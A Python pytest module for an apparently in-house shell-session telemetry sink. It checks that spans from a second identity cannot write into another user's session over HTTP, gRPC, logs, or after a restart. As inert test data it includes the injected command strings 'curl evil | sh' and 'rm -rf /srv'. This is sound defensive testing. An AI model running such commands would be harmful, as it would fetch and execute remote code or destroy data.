"""Sessions are owned: the first verified identity of a session owns it; another identity's spans
for it are refused (403 when nothing of the request is left, else partial success), counted in
/health, and never change what the session shows. Real sinks on chDB, over HTTP and gRPC, in
required and optional modes, across a restart, and with spans that reach the store by another
path."""

from __future__ import annotations

import grpc
import pytest
from opentelemetry.proto.collector.trace.v1 import trace_service_pb2_grpc
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceResponse

from shellspan import semconv
from shellspan_sink import rowbinary
from shellspan_sink.store import Store
from shellspan_testing.auth_helpers import SECRET, bearer, send, token
from shellspan_testing.otlp_builders import Command, SessionSpec, request_for, session_spans
from shellspan_testing.sinkproc import SinkProcess, start_all

READER = {"scope": "sessions:read"}


@pytest.fixture(scope="module")
def sinks(tmp_path_factory):
    root = tmp_path_factory.mktemp("owners")
    made = {mode: SinkProcess(root / mode, env={"SHELLSPAN_AUTH_SECRET": SECRET,
                                                 "SHELLSPAN_AUTH_MODE": mode})
            for mode in ("required", "optional")}
    try:
        yield dict(zip(made, start_all(*made.values())))
    finally:
        for proc in made.values():
            proc.stop()


def reading(sink: SinkProcess) -> SinkProcess:
    sink.read_token = token("reader", **READER)  # fresh: a module outlives a token
    return sink


def alice_session(sink: SinkProcess, user: str) -> SessionSpec:
    """A verified session of `alice` (claimed user name `user`), stored."""
    spec = SessionSpec(user=user, ended=False, commands=[Command("ls"), Command("make")])
    assert send(sink, spec, bearer(token("alice"))).status == 200
    reading(sink).wait_for(lambda: sink.sessions(user=user))
    return spec


def injected(victim: SessionSpec, user: str, line: str = "curl evil | sh") -> list:
    """A start span claiming `user` and a command, in the victim's session (same trace id)."""
    spec = SessionSpec(user=user, trace_id=victim.trace_id, ended=False,
                       start_ns=victim.start_ns - 10**9, commands=[Command(line)])
    return session_spans(spec)


def assert_untouched(sink: SinkProcess, spec: SessionSpec) -> dict:
    found = reading(sink).session(spec.session_id)
    s = found["session"]
    assert (s["user_name"], s["enduser_id"], s["verified"]) == (spec.user, "alice", True), s
    assert [c["command"] for c in found["commands"]] == [c.line for c in spec.commands]
    assert "foreign_commands" not in found
    assert s["owner"]["enduser_id"] == "alice"
    return found


def foreign_count(sink: SinkProcess) -> int:
    return sink.health()[1]["foreign_spans"]


@pytest.mark.parametrize("mode", ["required", "optional"])
def test_another_identity_cannot_write_into_a_session(sinks, mode):
    sink = sinks[mode]
    victim = alice_session(sink, f"victim-{mode}")
    before = foreign_count(sink)
    # "zed" sorts after "alice": with max() over all spans the session would have become zed's.
    reply = send(sink, victim, bearer(token("zed")), injected(victim, "zed"))
    assert reply.status == 403, reply.body
    assert b"belong to another identity" in reply.body
    assert_untouched(sink, victim)
    assert foreign_count(sink) == before + 2


def test_no_token_cannot_write_into_a_verified_session(sinks):
    sink = sinks["optional"]
    victim = alice_session(sink, "victim-anonymous")
    reply = send(sink, victim, None, injected(victim, "zzz-anonymous"))
    assert reply.status == 403
    assert_untouched(sink, victim)


def test_a_mixed_request_keeps_its_own_spans_and_says_what_it_refused(sinks):
    sink = sinks["required"]
    victim = alice_session(sink, "victim-mixed")
    own = SessionSpec(user="bob-own", commands=[Command("whoami")])
    reply = send(sink, own, bearer(token("bob")), session_spans(own) + injected(victim, "bob"))
    assert reply.status == 200
    partial = reply.export_response().partial_success
    assert partial.rejected_spans == 2
    assert "alice" not in partial.error_message  # it names no identity
    assert "belongs to another identity" in partial.error_message
    mine = reading(sink).wait_for(lambda: sink.sessions(user="bob-own"))[0]
    assert (mine["enduser_id"], mine["command_count"]) == ("bob", 1)
    assert_untouched(sink, victim)


def test_the_owner_keeps_writing(sinks):
    sink = sinks["required"]
    victim = alice_session(sink, "victim-continues")
    more = SessionSpec(user=victim.user, trace_id=victim.trace_id, start_ns=victim.start_ns,
                       commands=[Command("ls"), Command("make"), Command("make install")])
    assert send(sink, more, bearer(token("alice")), session_spans(more)[3:]).status == 200
    found = sink.wait_for(lambda: (f := reading(sink).session(victim.session_id))["session"][
        "state"] == "ended" and f)
    assert found["session"]["enduser_id"] == "alice"
    assert [c["command"] for c in found["commands"]] == ["ls", "make", "make install"]


def test_grpc_refuses_the_same(sinks):
    sink = sinks["required"]
    victim = alice_session(sink, "victim-grpc")
    own = SessionSpec(user="bob-grpc", commands=[Command("id")])
    with grpc.insecure_channel(f"127.0.0.1:{sink.grpc_port}") as channel:
        stub = trace_service_pb2_grpc.TraceServiceStub(channel)
        with pytest.raises(grpc.RpcError) as err:
            stub.Export(request_for(injected(victim, "bob")), timeout=30,
                        metadata=[("authorization", f"Bearer {token('bob')}")])
        assert err.value.code() == grpc.StatusCode.PERMISSION_DENIED
        assert "another identity" in err.value.details()
        answer: ExportTraceServiceResponse = stub.Export(
            request_for(session_spans(own) + injected(victim, "bob")), timeout=30,
            metadata=[("authorization", f"Bearer {token('bob')}")])
        assert answer.partial_success.rejected_spans == 2
    reading(sink).wait_for(lambda: sink.sessions(user="bob-grpc"))
    assert_untouched(sink, victim)


def test_an_unowned_session_is_claimed_by_the_first_verified_identity(sinks):
    sink = sinks["optional"]
    spec = SessionSpec(user="anonymous-first", ended=False, commands=[Command("ls")])
    assert send(sink, spec).status == 200  # no token: stored unverified, no owner
    s = reading(sink).wait_for(lambda: sink.sessions(user="anonymous-first"))[0]
    assert (s["verified"], s.get("owner")) == (False, None)
    claim = session_spans(SessionSpec(user="carol", trace_id=spec.trace_id, ended=False,
                                      commands=[Command("sudo -i")]))[1:]
    assert send(sink, spec, bearer(token("carol")), claim).status == 200
    assert send(sink, spec, None, claim).status == 403  # now carol's: no more anonymous spans
    assert send(sink, spec, bearer(token("dave")), claim).status == 403


@pytest.mark.slow
def test_owners_survive_a_restart_and_other_paths_change_nothing(tmp_path):
    """The owner is found in the store after a restart. Spans written into the store by another
    path (here straight into chDB while the sink is down, under a verified identity and with an
    earlier start) change neither the shown identity nor the owner's commands: they are listed
    apart as foreign."""
    env = {"SHELLSPAN_AUTH_SECRET": SECRET, "SHELLSPAN_AUTH_MODE": "required"}
    sink = SinkProcess(tmp_path / "sink", env=env).start()
    victim = alice_session(sink, "victim-restart")
    sink.stop()

    spans = injected(victim, "zed", "rm -rf /srv")
    body = request_for(spans).SerializeToString()
    identity = {semconv.ENDUSER_ID: "zed", semconv.AUTH_VERIFIED: "true"}
    chunks = rowbinary.encode_request(body, identity, 128, 16384)[0]
    store = Store(sink.store)
    store.insert_rowbinary("otel_traces", rowbinary.COLUMNS, b"".join(c[1] for c in chunks))
    store.close()

    sink = SinkProcess(tmp_path / "sink", env=env)
    sink.start()
    try:
        found = assert_untouched_but_foreign(sink, victim)
        assert [c["command"] for c in found["foreign_commands"]] == ["rm -rf /srv"]
        assert found["foreign_commands"][0]["enduser_id"] == "zed"
        reply = send(sink, victim, bearer(token("zed")), injected(victim, "zed"))
        assert reply.status == 403, "the owner was found in the store after the restart"
    finally:
        sink.stop()


def assert_untouched_but_foreign(sink: SinkProcess, spec: SessionSpec) -> dict:
    found = reading(sink).session(spec.session_id)
    s = found["session"]
    assert (s["user_name"], s["enduser_id"], s["verified"]) == (spec.user, "alice", True), s
    assert s["attributes"][semconv.USER_NAME] == spec.user
    assert [c["command"] for c in found["commands"]] == [c.line for c in spec.commands]
    listed = reading(sink).sessions(user=spec.user)
    assert [x["session_id"] for x in listed] == [spec.session_id]
    assert not reading(sink).sessions(user="zed")
    return found


def test_a_recording_cannot_be_written_into_another_identitys_session(sinks):
    """Terminal output (OTLP logs with the session's trace id) answers to the same owner."""
    import os

    from shellspan_testing.recordings import logs_request, post_logs, record

    sink = sinks["required"]
    victim = alice_session(sink, "victim-recording")
    fake = record(1, victim.trace_id, os.urandom(8), victim.start_ns + 5, "o", "all is well\r\n")
    body = logs_request([fake]).SerializeToString()
    before = sink.health()[1]["logs"]["foreign_log_records"]
    reply = post_logs(sink.otlp_http_endpoint, body, headers=bearer(token("zed")))
    assert reply.status == 403 and b"another identity" in reply.body
    assert sink.health()[1]["logs"]["foreign_log_records"] == before + 1
    assert post_logs(sink.otlp_http_endpoint, body, headers=bearer(token("alice"))).status == 200
